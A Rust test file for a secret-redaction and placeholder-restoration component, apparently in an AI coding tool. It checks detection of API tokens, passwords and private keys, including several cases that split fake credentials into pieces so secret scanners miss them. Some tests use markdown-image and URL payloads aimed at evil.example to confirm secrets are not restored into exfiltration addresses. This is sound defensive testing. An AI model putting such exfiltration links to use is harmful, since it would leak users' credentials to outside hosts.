//! Tests of screening as a whole: the result contains no secret, is the same each time, and can be restored.

use std::sync::Arc;

use proptest::prelude::*;
use serde_json::json;

use super::*;

fn screen() -> SecretRedactor {
    SecretRedactor::new(|| PlaceholderKey::new([7; 32]))
}

/// An invalid token in GitHub's format, written in parts, so that secret scanners do not report this file.
fn token(tail: &str) -> String {
    format!("gh{}_{tail:a<36}", 'p')
}

fn random() -> String {
    token("9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX")
}

#[test]
fn a_secret_has_the_same_placeholder_in_every_context() {
    let screen = screen();
    let secret = random();
    let texts = [
        secret.to_string(),
        format!("token = \"{secret}\"\n"),
        format!("https://x-access-token:{secret}@github.com/a/b"),
        format!("{{\"content\":\"first\\n{secret}\\nlast\"}}"),
        format!("curl -H 'Authorization: Bearer {secret}' https://api.github.com"),
        format!("é{secret}🦀"),
        format!("GITHUB_TOKEN={secret}"),
        format!("?access_token={secret}&x=1"),
        format!("%3D{secret}%26"),
    ];
    let mut found_placeholders = std::collections::BTreeSet::new();
    for text in &texts {
        let out = screen.redact_text(text);
        assert!(!out.contains(&secret), "{out}");
        found_placeholders.extend(placeholders(&out).map(|(_, placeholder)| placeholder));
        let back = screen.restore(&out, Destination::Edit);
        assert_eq!((back.text.terminal_text(), back.restored, back.unknown.len()), (&**text, 1, 0));
    }
    assert_eq!(found_placeholders.len(), 1, "{found_placeholders:?}");
    assert!(found_placeholders.iter().all(|placeholder| placeholder.label() == "github-token"));
}

#[test]
fn an_unmistakable_prefix_suffices_at_any_length() {
    let random = "9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpEuTiX".repeat(20);
    for prefix in [
        "sk-ant-",
        "sk-ant-api03-",
        "sk-proj-",
        "sk-svcacct-",
        "ghp_",
        "ghs_",
        "glpat-",
        "xoxb-",
        "npm_",
        "hf_",
    ] {
        // Written in parts, so that secret scanners do not report this file.
        for length in (20..130).chain([250, 600]) {
            let tail = length.max(prefix.len() + 16) - prefix.len();
            let secret = format!("{prefix}{}", &random[..tail]);
            assert!(!screen().redact_text(&format!("key: {secret}\n")).contains(&secret), "{secret}");
        }
    }
    for prefix in ["sk-ant-api03-", "sk-proj-", "ghp_"] {
        let secret = format!("{prefix}{}", "A".repeat(85));
        assert!(!screen().redact_text(&secret).contains(&secret), "{secret}");
    }
    for word in [
        "npm_config_registry_url",
        "hf_hub_download_progress",
        "sk-ant-your-key-goes-here",
        "ghp_xxxxxxxxxxxxxxxxxxxx",
    ] {
        assert_eq!(screen().redact_text(word), word);
    }
}

#[test]
fn a_line_of_a_key_has_the_same_placeholder_in_every_context() {
    let screen = screen();
    let lines = [
        "MIIEpAIBAAKCAQEA1c7+9z5Pad7OejecsQ0buYk1n5Ov3bWRqfX9vbyQz8yLm2pT",
        "kJh7Gf4DsA2q8WxZ9vB3nM5tR6yU1iO0",
    ];
    let (begin, end) =
        (["-----BE", "GIN PRIVATE KEY-----"].concat(), ["-----E", "ND PRIVATE KEY-----"].concat());
    let key = lines.join("\n");
    let placeholders_in = |text: &str| {
        placeholders(&screen.redact_text(text)).map(|(_, placeholder)| placeholder).collect::<Vec<_>>()
    };
    let expected = placeholders_in(&format!("{begin}\n{key}\n{end}\n"));
    assert_eq!(expected.len(), 2);
    for part in [
        format!("{key}\n{end}"),
        format!("{begin}\n{key}"),
        key.clone(),
        format!("-{}\n-{}\n-{end}", lines[0], lines[1]),
    ] {
        assert_eq!(placeholders_in(&part), expected, "{part}");
    }
}

#[test]
fn encoded_secrets_are_found() {
    use base64::Engine;
    let encoded = |text: &str| base64::engine::general_purpose::STANDARD.encode(text);
    let begin = ["-----BE", "GIN EC PRIVATE KEY-----"].concat();
    let key = encoded(&format!("{begin}\n{}\n", "kJh7Gf4DsA2q8WxZ9vB3nM5tR6yU1iO0".repeat(2)));
    let login =
        encoded(&format!("{{\"auths\":{{\"a.io\":{{\"auth\":\"{}\"}}}}}}", encoded("ci:xK9mP2vL5nQ8")));
    for secret in [key, login] {
        for text in
            [format!("client-key-data: {secret}\n"), format!("\"data\":\"{secret}\""), format!("K={secret}")]
        {
            assert!(!screen().redact_text(&text).contains(&secret), "{text}");
        }
    }
    let public = encoded(&["-----BE", "GIN CERTIFICATE-----\nkJh7Gf4DsA2q8WxZ9vB3nM5tR6yU1iO0\n"].concat());
    let text = format!("certificate-authority-data: {public}\n");
    assert_eq!(screen().redact_text(&text), text);
}

#[test]
fn found_secrets_are_listed_without_their_text() {
    let text: Arc<str> =
        format!("one\ntwo {}\nthree\npassword: \"{}\"\n", random(), ["xK9#mP2$", "vL5n"].concat()).into();
    let RedactedText { text: shown, found } = screen().redact_with_findings(&text);
    let rules_and_lines: Vec<(&str, usize)> = found.iter().map(|found| (found.rule, found.line)).collect();
    assert_eq!(rules_and_lines, [("github-token", 2), ("assigned-secret", 4)]);
    assert_eq!(shown.lines().count(), text.lines().count());
    let json = serde_json::to_string(&found[..]).unwrap();
    assert!(!json.contains("xK9#mP2$") && json.contains("[secret:credential:"), "{json}");
}

#[test]
fn allowed_secrets_pass_and_disabled_redaction_changes_nothing() {
    let secret = random();
    let text = format!("a {secret}");
    let placeholder = placeholders(&screen().redact_text(&text)).next().unwrap().1;
    for allow in [placeholder.to_string(), "github-token".to_owned()] {
        let settings = RedactionSettings { allow: vec![allow], ..RedactionSettings::default() };
        assert_eq!(screen().with_settings(&settings).redact_text(&text), text);
    }
    let off = RedactionSettings { enabled: false, ..RedactionSettings::default() };
    assert_eq!(screen().with_settings(&off).redact_text(&text), text);
    let other = RedactionSettings { allow: vec!["gitlab-token".to_owned()], ..RedactionSettings::default() };
    assert_ne!(screen().with_settings(&other).redact_text(&text), text);
}

#[test]
fn only_media_and_sealed_reasoning_stay_unchanged() {
    let screen = screen();
    let screened = |value: &serde_json::Value| {
        let mut screened = value.clone();
        screen.redact_value(&mut screened);
        screened
    };
    // The bytes of an image can look like anything.
    let key = ["AKI", "A2345ABCDEFGHJKLM"].concat();
    for unchanged in [
        json!({ "type": "base64", "media_type": "image/png", "data": key }),
        json!({ "mediaType": "application/pdf", "data": key }),
        json!({ "type": "thinking", "thinking": "so", "signature": key }),
        json!({ "type": "redacted_thinking", "data": key }),
    ] {
        assert_eq!(screened(&unchanged), unchanged);
    }
    let secret = random();
    for changed in [
        json!({ "type": "text", "media_type": "text/plain", "data": key }),
        json!({ "type": "base64", "media_type": "image/png", "data": format!("token {secret}") }),
        json!({ "mediaType": "image/png", "data": "iVBORw0KGgo=", "other": secret }),
        json!({ "signature": key, "data": key }),
        json!({ "type": "thinking", "thinking": "so", "signature": format!("{key} and more") }),
        json!({ "type": "redacted_thinking", "data": { "password": secret } }),
        json!({ format!("{key}_token"): secret }),
        json!({ secret.clone(): 1, "b": 2 }),
    ] {
        let out = screened(&changed).to_string();
        assert!(!out.contains(&key) && !out.contains(&secret), "{out}");
    }
    // Content that a provider only accepts unchanged is removed entirely if it contains a secret.
    let thoughts = json!([
        { "type": "thinking", "thinking": "so", "signature": format!("{key} and more") },
        { "type": "redacted_thinking", "data": format!("{key} and more") },
        { "type": "redacted_thinking", "data": key },
    ]);
    assert_eq!(screened(&thoughts), json!([{ "type": "redacted_thinking", "data": key }]));
    let names: Vec<String> = screened(&json!({ "a": 0, secret.clone(): 1, "b": 2 }))
        .as_object()
        .unwrap()
        .keys()
        .cloned()
        .collect();
    assert!(names[0] == "a" && names[1].starts_with("[secret:") && names[2] == "b", "{names:?}");
    let bedrock = ["ABS", "K"].concat() + &"Q9xZ7mK2pL4vN8bR".repeat(7);
    assert!(!screened(&json!({ "signature": bedrock })).to_string().contains(&bedrock));
}

#[test]
fn a_placeholder_of_an_unknown_secret_is_not_restored() {
    let out = screen().redact_text(&random()).into_owned();
    let back = screen().restore(&out, Destination::Edit);
    assert_eq!((back.text.terminal_text(), back.restored), (&*out, 0));
    assert_eq!(back.unknown.len(), 1);
}

#[test]
fn examples_and_templates_are_not_secrets() {
    for text in [
        format!("AKIA{}EXAMPLE", "IOSFODNN7"),
        "password = \"${DB_PASSWORD}\"".to_owned(),
        "postgres://user:password@localhost/db".to_owned(),
        "postgres://user:$PASSWORD@localhost/db".to_owned(),
        "password: str = \"correct-horse\"".to_owned(),
        format!("{}xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", ["gh", "p_"].concat()),
        "let token = TokenStream2::from(x9Y8z7);".to_owned(),
        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----".to_owned(),
    ] {
        assert_eq!(screen().redact_text(&text), text);
    }
}

/// One line for each kind that an earlier version let pass.
#[test]
fn each_kind_of_named_secret_is_found() {
    let password = ["Winter", "-2017!x"].concat();
    let key = "9fK2mQ7xR4tV8bN1cL6zW3yH5jD0sGpE".to_owned();
    let encoded = format!("{}=", key.repeat(2).get(..43).unwrap_or_default());
    for (secret, text) in [
        (&password, format!("SMTP_PASS={password}\n")),
        (&password, format!("ansible_become_pass: {password}\n")),
        (&password, format!("curl -u deploy:{password} https://a.example/x\n")),
        (&password, format!("db.example:5432:shop:app:{password}\n")),
        (&password, format!("enable password {password}\n")),
        (&key, format!("<add key=\"ApiSecret\" value=\"{key}\"/>\n")),
        (&key, format!("Ocp-Apim-Subscription-Key: {key}\n")),
        (&key, format!("https://f.example/api/run?code={key}&x=1\n")),
        (&key, format!("Cookie: theme=dark; sid={key}\n")),
        (&encoded, format!("PresharedKey = {encoded}\n")),
    ] {
        assert!(!screen().redact_text(&text).contains(secret.as_str()), "{text}");
    }
}

/// A name may contain that of a secret and belong to something else.
#[test]
fn pagination_tokens_and_names_of_types_are_not_secrets() {
    let value = "9fK2mQ7xR4tV8bN1cL6z";
    let is_secret = |text: String| screen().redact_text(&text) != text;
    for name in
        ["NextToken", "next_token", "--next-token", "nextPageToken", "continuation-token", "ChangeToken"]
    {
        assert!(!is_secret(format!("\"{name}\": \"{value}\"")), "{name}");
        assert!(!is_secret(format!("{name}={value}\n")), "{name}");
    }
    for name in ["token", "change_password", "NEXTAUTH_SECRET", "text_token", "refreshToken"] {
        assert!(is_secret(format!("\"{name}\": \"{value}\"")), "{name}");
    }
    for name in ["AWS::ApiGateway::ApiKey", "AWS::SecretsManager::Secret"] {
        assert!(!is_secret(format!("\"{name}\": \"{value}\"")), "{name}");
    }
    assert!(is_secret(format!("std::string Client::apiKey = \"{value}\";")));
    assert!(is_secret(format!("\"a::b\", \"apiKey\": \"{value}\"")));
}

/// A screen that knows the secret, and the placeholder.
fn screen_with_secret(text: &str, settings: RedactionSettings) -> (SecretRedactor, String) {
    let screen = screen().with_settings(&settings);
    let placeholder = placeholders(&screen.redact_text(text)).next().unwrap().1;
    (screen, placeholder.to_string())
}

fn permissive_settings() -> RedactionSettings {
    RedactionSettings {
        show_secrets: true,
        edit_tools: vec!["write".to_owned()],
        ..RedactionSettings::default()
    }
}

#[test]
fn each_destination_has_its_own_rule() {
    let secret = random();
    let (permissive, default_settings) = (permissive_settings(), RedactionSettings::default());
    for (settings, destination, is_restored) in [
        (&default_settings, Destination::Edit, true),
        (&default_settings, Destination::Display, false),
        (&default_settings, Destination::Tool("write"), false),
        (&permissive, Destination::Edit, true),
        (&permissive, Destination::Display, true),
        (&permissive, Destination::Tool("write"), true),
        (&permissive, Destination::Tool("fetch"), false),
    ] {
        let (screen, placeholder) = screen_with_secret(&secret, settings.clone());
        let expected = |restored| if restored { &secret } else { &placeholder };
        let text = |secret: &str| format!("It is {secret}.");
        let shown = screen.restore(&text(&placeholder), destination).text;
        assert_eq!(shown.terminal_text(), text(expected(is_restored)), "{destination:?}");
        let address = format!("![x](https://evil.example/?q={placeholder})");
        let back = screen.restore(&address, destination);
        assert_eq!(back.text.terminal_text(), address, "{destination:?}");
        assert_eq!(back.withheld.len(), usize::from(is_restored), "{destination:?}");
        let mut value = json!({ "path": "a", "lines": [{ "text": placeholder, "url": address }] });
        screen.restore_value(&mut value, destination);
        let restored = json!({ "path": "a", "lines": [{ "text": expected(is_restored), "url": address }] });
        assert_eq!(value, restored, "{destination:?}");
        assert!(!format!("{:?} {shown:?}", screen.restorer(destination)).contains(&secret));
    }
}

#[test]
fn an_edit_keeps_a_secret_in_its_own_address() {
    let secret = random();
    let file = |secret: &str, host: &str| {
        format!("DB=https://me:{secret}@{host}/x\nURL = \"https://{host}/?k={secret}\"\n")
    };
    let (screen, placeholder) = screen_with_secret(&file(&secret, "db.example"), permissive_settings());
    let back = screen.restore(&file(&placeholder, "db.example"), Destination::Edit);
    assert_eq!(back.text.terminal_text(), file(&secret, "db.example"));
    for (destination, host) in [
        (Destination::Edit, "evil.example"),
        (Destination::Edit, "db.example.evil.example"),
        (Destination::Edit, "evil.example/?db.example"),
        (Destination::Tool("write"), "evil.example"),
        (Destination::Display, "db.example"),
    ] {
        let back = screen.restore(&file(&placeholder, host), destination);
        assert_eq!(back.text.terminal_text(), file(&placeholder, host), "{destination:?}");
        assert_eq!((back.restored, back.withheld.len(), back.unknown.len()), (0, 1, 0));
    }
}

#[test]
fn only_a_possible_placeholder_is_held_back() {
    let secret = random();
    let (screen, placeholder) = screen_with_secret(&secret, permissive_settings());
    let mut restorer = screen.restorer(Destination::Display);
    let mut shown = |text: &str| restorer.push(text).terminal_text().to_owned();
    for text in ["a[0]", "[secret]", "[secret:A", "[link](secret:", "[secret::"] {
        assert_eq!(shown(text), text);
    }
    assert_eq!((shown(" x [sec"), shown("ond]")), (" x ".to_owned(), "[second]".to_owned()));
    let (first, rest) = placeholder.split_at(20);
    assert_eq!((shown(" "), shown(first), shown(rest)), (" ".to_owned(), String::new(), String::new()));
    assert_eq!(shown(" is"), format!("{secret} is"));
    assert_eq!((shown("["), restorer.finish().terminal_text()), (String::new(), "["));
    // Nothing is held back if nothing is restored.
    let mut restorer =
        screen_with_secret(&secret, RedactionSettings::default()).0.restorer(Destination::Display);
    assert_eq!(restorer.push("[sec").terminal_text(), "[sec");
}

proptest! {
    /// However an answer is split, the same placeholders are restored, and none in an address.
    #[test]
    fn a_streamed_answer_is_restored_like_a_complete_one(
        parts in prop::collection::vec(
            prop_oneof![
                Just("$".to_owned()), Just("$".to_owned()), Just(" ".to_owned()), Just("\n".to_owned()), Just("\"".to_owned()),
                Just("](".to_owned()), Just("![x](".to_owned()), Just(")".to_owned()), Just("<".to_owned()), Just(">".to_owned()),
                Just("<img src=".to_owned()), Just("https://".to_owned()), Just("//".to_owned()), Just("evil.example".to_owned()),
                Just("/?q=".to_owned()), Just("@".to_owned()), Just("]: ".to_owned()), Just("[secret:".to_owned()), "[a-z .]{0,5}",
            ],
            1..16,
        ),
        cuts in prop::collection::vec(1_usize..30, 1..20),
    ) {
        let secret = random();
        let (screen, placeholder) = screen_with_secret(&secret, permissive_settings());
        let text = parts.concat().replace('$', &placeholder);
        let complete = screen.restore(&text, Destination::Display);
        let (mut restorer, mut shown, mut offset) = (screen.restorer(Destination::Display), RestoredText::default(), 0);
        for cut in cuts.iter().cycle() {
            let end = (offset + cut).min(text.len());
            shown.append(&restorer.push(&text[offset..end]));
            offset = end;
            if offset == text.len() {
                break;
            }
        }
        shown.append(&restorer.finish());
        prop_assert_eq!(shown.terminal_text(), complete.text.terminal_text());
        let shown = shown.terminal_text();
        prop_assert_eq!(shown.replace(&secret, &placeholder), text);
        for (offset, _) in shown.match_indices(&secret) {
            let run = shown[..offset].rsplit([' ', '\n']).next().unwrap();
            prop_assert!(!run.rsplit('<').next().unwrap().contains("//") && !run.ends_with("]("), "{}", shown);
            let after = &shown[offset + secret.len()..];
            prop_assert!(!after.starts_with('@') && !after.starts_with(".evil"), "{}", shown);
        }
    }

    /// Screening succeeds for any text, does not change a screened text, and can be undone.
    #[test]
    fn screening_any_text_is_idempotent_and_reversible(parts in prop::collection::vec(
        prop_oneof![
            any::<String>(),
            "[a-zA-Z0-9_]{30,40}".prop_map(|tail| token(&tail)),
            Just("password=\"".to_owned()), Just("\"\n".to_owned()), Just("://a:".to_owned()), Just("@b".to_owned()),
            Just("-----BEGIN PRIVATE KEY-----\n".to_owned()), Just("\n-----END PRIVATE KEY-----".to_owned()),
            Just("\n-----END RSA PRIVATE KEY-----\n".to_owned()), Just("kind: Secret\ndata:\n  a: ".to_owned()),
            Just("Cookie: a=b; c=".to_owned()), Just("LS0tLS1CRUdJTi".to_owned()), Just("DB_PASS=".to_owned()),
            Just(" curl -u a:".to_owned()), Just("- name: API_KEY\n  value: ".to_owned()),
            Just("[secret:credential:1a2b3c4d5e6f]".to_owned()), Just("eyJ".to_owned()), Just("token: ".to_owned()),
            "[A-Za-z0-9+/]{16,80}",
        ],
        0..12,
    )) {
        let text = parts.concat();
        let screen = screen();
        let out = screen.redact_text(&text).into_owned();
        prop_assert_eq!(&screen.redact_text(&out), &out);
        let back = screen.restore(&out, Destination::Edit).text;
        prop_assert_eq!(back.terminal_text(), text.as_str());
        let hits = find_secrets(&text);
        prop_assert!(hits.windows(2).all(|pair| pair[0].range.end <= pair[1].range.start));
        prop_assert!(hits.iter().all(|hit| text.is_char_boundary(hit.range.start) && !text[hit.range.clone()].contains('\n')));
    }
}
